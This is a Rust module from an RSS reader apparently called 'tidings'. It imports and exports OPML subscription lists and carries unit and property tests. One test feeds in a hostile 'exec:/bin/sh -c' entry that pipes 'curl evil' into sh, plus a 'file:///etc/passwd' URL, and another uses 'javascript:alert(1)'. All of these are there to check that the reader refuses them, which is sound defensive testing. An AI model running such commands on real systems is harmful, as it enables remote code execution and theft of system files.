//! OPML 1.0/2.0 subscription lists: read leniently (nested outlines become tags, the
//! `category` attribute too), written as OPML 2.0.

use std::borrow::Cow;

use quick_xml::events::{BytesStart, Event};
use quick_xml::{Reader, XmlVersion};

use super::subscriptions::{ImportList, Rejected};
use crate::domain::Feed;
use crate::text::sanitize::single_line;

/// Reads an OPML document. Broken XML stops the reading where it breaks; what was read before
/// is kept and the break is reported as a rejected line.
pub fn read(text: &str) -> ImportList {
    let mut reader = Reader::from_str(text);
    reader.config_mut().check_end_names = false;
    let mut list = ImportList::default();
    let mut lines = LineCounter::new(text);
    // One entry per open <outline>: the tag it contributes, if it is a folder.
    let mut folders: Vec<Option<String>> = Vec::new();
    loop {
        let pos = reader.buffer_position() as usize;
        match reader.read_event() {
            Ok(Event::Start(e)) if is_outline(&e) => {
                let line = lines.line_of(pos);
                folders.push(outline(&e, line, &folders, &mut list));
            }
            Ok(Event::Empty(e)) if is_outline(&e) => {
                let line = lines.line_of(pos);
                outline(&e, line, &folders, &mut list);
            }
            Ok(Event::End(e)) if e.local_name().as_ref().eq_ignore_ascii_case("outline") => {
                folders.pop();
            }
            Ok(Event::Eof) => break,
            Ok(_) => {}
            Err(e) => {
                let line = lines.line_of(reader.error_position() as usize);
                list.rejected.push(Rejected {
                    line,
                    what: "OPML".into(),
                    reason: format!("broken XML: {e}"),
                });
                break;
            }
        }
    }
    list
}

fn is_outline(e: &BytesStart<'_>) -> bool {
    e.local_name().as_ref().eq_ignore_ascii_case("outline")
}

/// Handles one outline: a feed is recorded; a folder returns the tag it gives its children.
fn outline(
    e: &BytesStart<'_>,
    line: usize,
    folders: &[Option<String>],
    list: &mut ImportList,
) -> Option<String> {
    let mut url = None;
    let mut title = None;
    let mut text = None;
    let mut categories = Vec::new();
    for attr in e.html_attributes().flatten() {
        let value =
            attr.normalized_value(XmlVersion::Implicit1_0).unwrap_or_else(|_| Cow::Borrowed(&*attr.value));
        let value = single_line(&value);
        match attr.key.local_name().as_ref().to_ascii_lowercase().as_str() {
            "xmlurl" => url = Some(value),
            "url" if url.is_none() => url = Some(value),
            "title" => title = Some(value),
            "text" => text = Some(value),
            "category" => categories = category_tags(&value),
            _ => {}
        }
    }
    let name = title.or(text).filter(|t| !t.is_empty());
    let Some(url) = url.filter(|u| !u.is_empty()) else {
        return name;
    };
    let mut tags: Vec<String> = folders.iter().flatten().cloned().collect();
    for c in categories {
        if !tags.contains(&c) {
            tags.push(c);
        }
    }
    list.push(line, &url, name, tags);
    None
}

/// OPML 2.0 `category`: comma-separated, each a `/`-separated path; every part is a tag.
fn category_tags(value: &str) -> Vec<String> {
    let mut tags = Vec::new();
    for part in value.split(',').flat_map(|c| c.split('/')) {
        let tag = part.trim();
        if !tag.is_empty() && !tags.iter().any(|t: &String| t == tag) {
            tags.push(tag.to_string());
        }
    }
    tags
}

/// Writes OPML 2.0: feeds under an outline of their first tag, every tag in `category`.
pub fn write(feeds: &[Feed], now: chrono::DateTime<chrono::Utc>) -> String {
    let mut out =
        String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<opml version=\"2.0\">\n  <head>\n");
    out.push_str("    <title>tidings subscriptions</title>\n");
    out.push_str(&format!("    <dateCreated>{}</dateCreated>\n  </head>\n  <body>\n", now.to_rfc2822()));
    let outline = |f: &Feed, indent: &str| {
        let mut line = format!(
            "{indent}<outline type=\"rss\" text=\"{t}\" title=\"{t}\" xmlUrl=\"{u}\"",
            t = escape(&f.title),
            u = escape(&f.url)
        );
        if let Some(site) = &f.site_url {
            line.push_str(&format!(" htmlUrl=\"{}\"", escape(site)));
        }
        if !f.tags.is_empty() {
            line.push_str(&format!(" category=\"{}\"", escape(&f.tags.join(","))));
        }
        line.push_str("/>\n");
        line
    };
    let mut folders: Vec<&str> = feeds.iter().filter_map(|f| f.tags.first().map(String::as_str)).collect();
    folders.sort_unstable();
    folders.dedup();
    for folder in folders {
        out.push_str(&format!("    <outline text=\"{t}\" title=\"{t}\">\n", t = escape(folder)));
        for f in feeds.iter().filter(|f| f.tags.first().map(String::as_str) == Some(folder)) {
            out.push_str(&outline(f, "      "));
        }
        out.push_str("    </outline>\n");
    }
    for f in feeds.iter().filter(|f| f.tags.is_empty()) {
        out.push_str(&outline(f, "    "));
    }
    out.push_str("  </body>\n</opml>\n");
    out
}

fn escape(s: &str) -> Cow<'_, str> {
    quick_xml::escape::escape(s)
}

/// Byte offsets to 1-based line numbers, scanning forward only once.
struct LineCounter<'a> {
    text: &'a [u8],
    pos: usize,
    line: usize,
}

impl<'a> LineCounter<'a> {
    fn new(text: &'a str) -> Self {
        Self { text: text.as_bytes(), pos: 0, line: 1 }
    }

    fn line_of(&mut self, offset: usize) -> usize {
        let offset = offset.min(self.text.len());
        if offset < self.pos {
            self.pos = 0;
            self.line = 1;
        }
        // Tags are reported at their `<`; skip whitespace the reader consumed before it.
        let mut at = offset;
        while at < self.text.len() && self.text[at].is_ascii_whitespace() {
            at += 1;
        }
        #[allow(clippy::naive_bytecount)] // a few KiB at a time
        let newlines = self.text[self.pos..at].iter().filter(|&&b| b == b'\n').count();
        self.line += newlines;
        self.pos = at;
        self.line
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nested_outlines_become_tags() {
        let opml = r#"<?xml version="1.0"?>
<opml version="1.0"><head><title>x</title></head><body>
  <outline text="News">
    <outline text="World" >
      <outline text="BBC" type="rss" xmlUrl="https://bbc.example/rss" category="/uk,intl"/>
    </outline>
    <outline title="Le Monde" type="rss" xmlUrl="https://lemonde.example/rss"/>
  </outline>
  <outline text="Loose &amp; free" xmlUrl="https://loose.example/feed"/>
  <outline text="no url"/>
</body></opml>"#;
        let list = read(opml);
        assert!(list.rejected.is_empty(), "{:?}", list.rejected);
        let e = &list.entries;
        assert_eq!(e.len(), 3);
        assert_eq!((e[0].line, e[0].url.as_str()), (5, "https://bbc.example/rss"));
        assert_eq!(e[0].tags, vec!["News", "World", "uk", "intl"]);
        assert_eq!(e[1].title.as_deref(), Some("Le Monde"));
        assert_eq!(e[1].tags, vec!["News"]);
        assert_eq!(e[2].title.as_deref(), Some("Loose & free"));
        assert!(e[2].tags.is_empty());
    }

    #[test]
    fn bad_urls_and_broken_xml_are_reported_with_lines() {
        let opml = "<opml><body>\n<outline xmlUrl=\"ftp://x/\"/>\n<outline xmlUrl=\"https://ok/\"/>\n<outline xmlUrl=\"https://x/\" a=\"unclosed/>\n";
        let list = read(opml);
        assert_eq!(list.entries.len(), 1);
        assert_eq!(list.rejected[0].line, 2);
        assert!(list.rejected[0].reason.contains("ftp"), "{:?}", list.rejected);
        assert!(list.rejected.last().unwrap().reason.contains("broken XML"));
    }

    #[test]
    fn exec_and_file_entries_are_refused_with_why() {
        let opml = "<opml><body>\n<outline xmlUrl=\"exec:/bin/sh -c 'curl evil | sh'\"/>\n\
                    <outline xmlUrl=\"file:///etc/passwd\"/>\n<outline xmlUrl=\"https://ok/\"/>\n</body></opml>";
        let list = read(opml);
        assert_eq!(list.entries.len(), 1);
        let refused: Vec<(usize, &str)> = list.rejected.iter().map(|r| (r.line, r.what.as_str())).collect();
        assert_eq!(refused, vec![(2, "exec:/bin/sh -c 'curl evil | sh'"), (3, "file:///etc/passwd")]);
        assert!(
            list.rejected[0].reason.contains("must not make tidings run a command"),
            "{:?}",
            list.rejected
        );
    }

    mod props {
        //! Property tests: arbitrary bytes never panic the reader; arbitrary well-formed
        //! OPML (nested outlines, entities in attributes, missing or non-http URLs) imports
        //! exactly its outlines with an http(s) `xmlUrl`, in order.

        use proptest::prelude::*;

        use super::read;
        use crate::feed::subscriptions::read_list;

        /// An outline: its title (raw XML attribute text), its URL (`None`: no `xmlUrl`), and
        /// its children.
        #[derive(Clone, Debug)]
        struct Outline {
            title: Option<String>,
            url: Option<Url>,
            children: Vec<Outline>,
        }

        /// A URL attribute: the XML text and, for http(s), the URL it means.
        #[derive(Clone, Debug)]
        struct Url {
            xml: String,
            http: Option<String>,
        }

        fn url() -> impl Strategy<Value = Url> {
            prop_oneof![
                (prop::sample::select(vec!["http", "https", "HTTPS"]), 0..50u32, 0..50u32).prop_map(
                    |(s, h, f)| Url {
                        xml: format!("{s}://h{h}.example/f{f}?a=1&amp;b=%C3%A9"),
                        http: Some(format!("{}://h{h}.example/f{f}?a=1&b=%C3%A9", s.to_ascii_lowercase())),
                    }
                ),
                prop::sample::select(vec![
                    "ftp://x.example/",
                    "feed",
                    "",
                    "javascript:alert(1)",
                    "mailto:a@b"
                ])
                .prop_map(|u| Url { xml: u.to_owned(), http: None }),
            ]
        }

        fn title() -> impl Strategy<Value = String> {
            prop::collection::vec(
                prop_oneof![
                    "[a-zA-Z ]{0,8}",
                    prop::sample::select(vec![
                        "&amp;", "&lt;", "&gt;", "&quot;", "&apos;", "&#233;", "&#x4E2D;", "中文", "👍"
                    ])
                    .prop_map(str::to_owned),
                ],
                0..5,
            )
            .prop_map(|p| p.concat())
        }

        fn outline() -> impl Strategy<Value = Outline> {
            let leaf = (prop::option::of(title()), prop::option::of(url()))
                .prop_map(|(title, url)| Outline { title, url, children: Vec::new() });
            leaf.prop_recursive(4, 48, 5, |inner| {
                (prop::option::of(title()), prop::option::of(url()), prop::collection::vec(inner, 0..5))
                    .prop_map(|(title, url, children)| Outline { title, url, children })
            })
        }

        fn write(o: &Outline, out: &mut String, expected: &mut Vec<String>) {
            out.push_str("<outline");
            if let Some(t) = &o.title {
                out.push_str(&format!(" text=\"{t}\""));
            }
            if let Some(u) = &o.url {
                out.push_str(&format!(" type=\"rss\" xmlUrl=\"{}\"", u.xml));
                expected.extend(u.http.clone());
            }
            if o.children.is_empty() {
                out.push_str("/>\n");
            } else {
                out.push_str(">\n");
                for c in &o.children {
                    write(c, out, expected);
                }
                out.push_str("</outline>\n");
            }
        }

        proptest! {
            #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

            #[test]
            fn every_http_outline_is_imported(outlines in prop::collection::vec(outline(), 0..6)) {
                let mut doc = String::from("<?xml version=\"1.0\"?>\n<opml version=\"2.0\"><head><title>t</title></head><body>\n");
                let mut expected = Vec::new();
                for o in &outlines {
                    write(o, &mut doc, &mut expected);
                }
                doc.push_str("</body></opml>\n");
                let list = read(&doc);
                let got: Vec<&str> = list.entries.iter().map(|e| e.url.as_str()).collect();
                prop_assert_eq!(got, expected.iter().map(String::as_str).collect::<Vec<_>>(), "{}", doc);
                prop_assert!(list.rejected.iter().all(|r| !r.reason.contains("broken XML")), "{:?}\n{}", list.rejected, doc);
                for e in &list.entries {
                    prop_assert!(e.title.as_deref().is_none_or(|t| !t.contains('&') || !t.contains(';')), "entity left in {:?}", e.title);
                }
            }

            #[test]
            fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
                let text = String::from_utf8_lossy(&bytes);
                let _ = read(&text);
                let _ = read_list(&text);
                let with_outlines = format!("<opml><body><outline xmlUrl=\"{text}\" text=\"{text}\">{text}</outline></body></opml>");
                let _ = read(&with_outlines);
            }
        }
    }
}
